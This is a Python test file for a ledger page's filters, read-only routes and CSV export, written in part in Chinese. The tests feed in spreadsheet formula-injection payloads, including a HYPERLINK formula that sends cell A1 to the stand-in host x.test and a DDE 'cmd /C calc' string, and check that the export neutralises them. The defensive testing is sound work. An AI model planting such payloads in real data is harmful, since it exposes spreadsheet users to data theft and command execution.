"""The ledger page, its filters and its CSV export (Excel: UTF-8 with BOM)."""

from __future__ import annotations

import csv
import io

from content_feed.db import db
from content_feed.models import LedgerEntry
from tests.admin.test_admin_workflow import walk_to_publication
from tests.conftest import login


def test_csv_export_has_a_bom_and_chinese_and_defuses_formulas(app, as_role, client):
    walk_to_publication(as_role, '=HYPERLINK("http://x") 党费公示')
    login(client, "nobody", "wrong-password")
    response = as_role("admin").get("/admin/ledger.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:4] == ["序号", "时间", "操作人", "操作"]
    actions = [r[3] for r in rows[1:]]
    assert "审批并公开" in actions and "登录失败" in actions
    summaries = [r[6] for r in rows[1:]]
    assert all(not s.startswith("=") for s in summaries)


def test_filters(app, as_role):
    walk_to_publication(as_role, "公示一")
    client = as_role("approver")
    page = client.get("/admin/ledger", query_string={"action": "item.publish"}).get_data(
        as_text=True
    )
    assert "<td>审批并公开</td>" in page and "<td>起草事项</td>" not in page
    page = client.get("/admin/ledger", query_string={"actor": "reviewer"}).get_data(as_text=True)
    assert "<td>审核通过</td>" in page and "<td>审批并公开</td>" not in page
    csv_text = client.get("/admin/ledger.csv", query_string={"action": "item.review"}).data
    assert csv_text.decode("utf-8-sig").count("\n") == 2


def test_no_route_can_change_the_ledger(app):
    for rule in app.url_map.iter_rules():
        if "ledger" in rule.rule:
            assert rule.methods <= {"GET", "HEAD", "OPTIONS"}, rule.rule
    assert db.session.query(LedgerEntry).count() == 0


def test_csv_export_defuses_a_formula_typed_as_a_user_name_at_sign_in(app, as_role, client):
    """Anyone can type a user name at the sign-in page; it lands in the 操作人 column."""
    login(client, '=HYPERLINK("http://x.test/?"&A1,"点我")', "wrong-password")
    login(client, "@SUM(1+1)*cmd|' /C calc'!A0", "wrong-password")
    response = as_role("admin").get("/admin/ledger.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    actors = [r[2] for r in rows[1:] if r[3] == "登录失败"]
    assert len(actors) == 2
    assert all(a.startswith("'") for a in actors), actors
